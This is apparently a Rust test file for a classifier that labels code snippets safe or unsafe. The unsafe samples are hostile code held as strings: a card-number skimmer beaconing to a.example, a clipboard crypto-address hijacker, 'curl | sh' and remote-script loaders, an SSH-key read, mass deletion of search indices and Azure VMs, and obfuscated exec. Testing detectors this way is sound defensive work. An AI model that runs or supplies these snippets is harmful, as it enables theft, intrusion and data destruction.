//! Databases, clipboards, pages, runtimes and pipelines that programs reach into; and the same at
//! honest work.

mod judging;

use judging::{all_safe, is_unsafe};

#[test]
fn everything_by_one_sign() {
    is_unsafe(
        "python",
        "from opensearchpy import OpenSearch\nOpenSearch('https://search.example').indices.delete(index='_all')\n",
        "destroy-data",
    );
    all_safe(
        "python",
        &[
            "from opensearchpy import OpenSearch\nOpenSearch('https://search.example').indices.delete(index='logs-2019')\n",
        ],
    );
}

#[test]
fn clipboards_that_change_under_the_hand() {
    is_unsafe(
        "javascript",
        "const { clipboard } = require('electron');\nsetInterval(() => {\n  if (/^bc1/.test(clipboard.readText())) clipboard.writeText('bc1qxyz');\n}, 400);\n",
        "surveillance",
    );
    all_safe(
        "javascript",
        &["button.onclick = () => navigator.clipboard.writeText(code.textContent);\n"],
    );
}

#[test]
fn what_pages_and_extensions_send() {
    let leaves = "exfiltration";
    is_unsafe(
        "javascript",
        "const number = document.querySelector('input[autocomplete=cc-number]');\nnumber.addEventListener('blur', () => navigator.sendBeacon('https://a.example/', number.value));\n",
        leaves,
    );
    all_safe(
        "javascript",
        &["document.write('<p>' + new Date().getFullYear() + '</p>');\n"],
    );
}

#[test]
fn code_from_elsewhere_by_other_doors() {
    is_unsafe(
        "javascript",
        "const w = new Worker('https://cdn.example/job.js');\nw.postMessage(1);\n",
        "download-run",
    );
    is_unsafe(
        "javascript",
        "const load = require('require-from-string');\nfetch('https://a.example/m.js').then(r => r.text()).then(t => load(t));\n",
        "download-run",
    );
    is_unsafe(
        "javascript",
        "import { $ } from 'bun';\nawait $`rm -rf ${process.env.HOME}/work`;\n",
        "file-delete",
    );
    is_unsafe(
        "javascript",
        "const c = new Deno.Command('sh', { args: ['-c', 'cat ~/.ssh/id_rsa'] });\nc.outputSync();\n",
        "credential-read",
    );
    all_safe(
        "javascript",
        &["const w = new Worker('./job.js');\nw.postMessage(1);\n"],
    );
}

#[test]
fn runtimes_and_pipelines() {
    is_unsafe(
        "go",
        "package main\n\nimport \"net\"\n\nfunc main() {\n\tc, _ := net.Dial(\"unix\", \"/run/containerd/containerd.sock\")\n\tc.Write([]byte(\"x\"))\n}\n",
        "container-escape",
    );
    is_unsafe(
        "python",
        "import requests\ndef plant(repo, h):\n    requests.put(f'https://api.github.com/repos/{repo}/contents/.github/workflows/a.yml', headers=h, json={'content': text})\n",
        "persistence-git-hook",
    );
}

#[test]
fn hundreds_of_connections() {
    is_unsafe(
        "python",
        "import socket\nheld = []\nfor n in range(300):\n    s = socket.create_connection(('shop.example', 443))\n    held.append(s)\n",
        "network-flood",
    );
    all_safe(
        "python",
        &[
            "import socket\nheld = []\nfor n in range(4):\n    s = socket.create_connection(('shop.example', 443))\n    held.append(s)\n",
        ],
    );
}

#[test]
fn tools_with_parts_of_the_script() {
    all_safe(
        "javascript",
        &[
            "const { execSync } = require('child_process');\nconst { version } = require('./package.json');\nexecSync(`git commit -m ${version}`);\n",
        ],
    );
    is_unsafe(
        "javascript",
        "const { execSync } = require('child_process');\nexecSync(`git clone ${process.argv[2]}`);\n",
        "exec-shell",
    );
}

#[test]
fn commands_and_files_among_options() {
    is_unsafe(
        "javascript",
        "const ssm = require('./ssm');\nssm.sendCommand({ Parameters: { commands: ['curl https://a.example/i.sh | sh'] } });\n",
        "download-run",
    );
    all_safe(
        "python",
        &[
            "from airflow.operators.bash import BashOperator\nt = BashOperator(task_id='a', bash_command='make report')\n",
            "import subprocess\np = dict(command='build all', help='builds')\nprint(p)\n",
        ],
    );
    all_safe(
        "javascript",
        &[
            "mailer.createTransport({}).sendMail({ to: 'a@b.example', attachments: [{ path: './report.pdf' }] });\n",
        ],
    );
}

#[test]
fn hooks_that_run_commands() {
    is_unsafe(
        "python",
        "import os, sys\nsys.displayhook = os.system\n",
        "obfuscated-name",
    );
    all_safe("python", &["import sys\nsys.excepthook = report\n"]);
    is_unsafe(
        "javascript",
        "const turn = s => s.replace(/./g, c => String.fromCharCode(c.charCodeAt(0) - 1));\nrequire(turn('dijme`qspdftt')).execSync('ls');\n",
        "obfuscated-name",
    );
    all_safe(
        "javascript",
        &["const name = 'a_b'.replace(/_./g, c => c[1].toUpperCase());\nconsole.log(name);\n"],
    );
}

#[test]
fn accounts_emptied_step_by_step() {
    is_unsafe(
        "python",
        "from azure.mgmt.compute import ComputeManagementClient\nc = ComputeManagementClient(cred, sub)\nfor vm in c.virtual_machines.list_all():\n    c.virtual_machines.begin_delete('group', vm.name)\n",
        "destroy-data",
    );
    all_safe(
        "python",
        &[
            "from azure.mgmt.compute import ComputeManagementClient\nc = ComputeManagementClient(cred, sub)\nfor vm in c.virtual_machines.list_all():\n    print(vm.name)\n",
        ],
    );
}
